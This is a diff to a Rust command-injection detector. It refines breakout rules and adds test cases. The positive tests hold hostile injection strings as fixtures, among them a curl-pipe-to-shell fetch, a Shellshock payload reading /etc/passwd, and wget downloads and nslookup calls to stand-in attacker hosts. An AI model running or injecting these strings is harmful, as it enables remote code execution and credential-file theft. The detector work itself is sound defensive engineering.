@@ -10,6 +10,15 @@
 //! command (`c'a't`, `w\hoami`) and `${IFS}` for a blank are undone. Prose such as
 //! "Tom & Jerry", "terms; id cards" or "rock | ping pong" stays unconfirmed; a backtick in a
 //! sentence (Markdown code) only counts after a separator or at the value's start.
+//!
+//! An injection breaks out of the value the app expected: its first separator or substitution
+//! comes at the value's start or right after one blank-free token (`127.0.0.1; id`, `a);id`,
+//! `"|id|`, `x$(id)`), or the value is a Shellshock function (`() { :;};`); after such a breakout,
+//! every later separator counts too. A command quoted in prose or Markdown comes after words
+//! ("I tried `curl … | jq .` and then ; ls -la", "sudo apt update; cat /etc/os-release", a
+//! fenced block's `\nrm -rf node_modules`), so there a common word (`ls`, `cat`, `grep`, `rm`…)
+//! is only suspicious, and so is a command that only a newline separates; a command no one types
+//! in prose (`whoami`, `wget`, `nslookup`…) after `;`, `|`, `&` or `$(` is confirmed wherever.
 
 use super::classes::{self, Mask};
 
@@ -114,6 +123,13 @@ fn command_at(s: &[u8], i: usize, weak_ok: bool, may_end: bool) -> (bool, bool) 
     (false, false)
 }
 
+/// Whether the command at `s[i..]` is a [`strong`] one.
+fn strong_at(s: &[u8], i: usize) -> bool {
+    let (w, n, _) = command_word(s, skip_blanks(s, i));
+    let word = &w[..n];
+    strong(word.strip_suffix(b".exe").unwrap_or(word))
+}
+
 /// Looks for command injection in a normalized value. Returns (confirmed, suspicious).
 pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
     use classes::{AMP, BACKTICK, DOLLAR, NEWLINE, PIPE, SEMI};
@@ -121,6 +137,14 @@ pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
         return (false, false);
     }
     let mut suspicious = false;
+    // Where the second word of the value starts: a trigger up to there follows at most one token.
+    let start = s.iter().position(|&b| !matches!(b, b' ' | b'\t' | b'\n')).unwrap_or(s.len());
+    let first_blank = s[start..].iter().position(|&b| matches!(b, b' ' | b'\t' | b'\n')).map_or(s.len(), |k| start + k);
+    let second_word = s[first_blank..].iter().position(|&b| !matches!(b, b' ' | b'\t' | b'\n')).map_or(s.len(), |k| first_blank + k);
+    classes::tick(second_word);
+    // A Markdown fence is no shell syntax: a value that opens with one is a document.
+    let fenced = classes::contains(&s[start..first_blank], b"```");
+    let mut broken_out = s[start..].starts_with(b"() {");
     let candidates = memchr::memchr3_iter(b';', b'|', b'&', s).chain(memchr::memchr3_iter(b'\n', b'$', b'`', s));
     for i in candidates {
         let b = s[i];
@@ -135,10 +159,11 @@ pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
             }
             _ => continue,
         };
+        broken_out |= i <= second_word && !fenced;
         // A single `&` hugged by words (`a=1&cat=2`) is a query string, not a separator.
         let hugged = b == b'&' && after == i + 1 && i > 0 && s[i - 1].is_ascii_alphanumeric() && s.get(after).is_some_and(u8::is_ascii_alphanumeric);
-        let (c, sus) = command_at(s, after, !hugged, b != b'\n');
-        if c {
+        let (c, sus) = command_at(s, after, !hugged && broken_out, b != b'\n');
+        if c && (broken_out || (b != b'\n' && strong_at(s, after))) {
             return (true, true);
         }
         suspicious |= sus;
@@ -178,6 +203,14 @@ mod tests {
             "|nslookup x.attacker.example",
             "$(curl http://x.example/s.sh|sh)",
             "; ls",
+            "127.0.0.1; id",
+            "a);id",
+            "test*; ls -lhtR /var/www/",
+            "www.example.com;cat /etc/${a}passwd",
+            "http://x.example/upload.php;lwp-download http://x.example/a.jpg;wget http://x.example/b",
+            "() { :;}; echo; echo; echo $(/bin/cat /etc/passwd)",
+            "1\nenv;",
+            "Ran: the nightly job; wget http://attacker.example/x.sh",
         ] {
             assert!(cmd(p).0, "{p}");
         }
@@ -194,6 +227,12 @@ mod tests {
             "a=1&b=2&cat=shoes",
             "Meet me at 5; more later",
             "Salt & pepper",
+            "## Steps\n1. run `npm i`\n2. `cat package.json | grep version`\n```sh\nrm -rf node_modules && npm ci\n```\n> works on my machine :)",
+            "I tried `curl -s https://api.example.com/v1/me | jq .` and then ; ls -la ~/.config and nothing",
+            "sudo apt update; cat /etc/os-release",
+            "Ran: sudo systemctl restart nginx; cat /var/log/nginx/error.log | tail -n 50",
+            "```sh\nrm -rf node_modules\n```",
+            "Output of the check:\nuname -a\nLinux box 6.1",
         ] {
             assert!(!cmd(t).0, "{t}");
         }
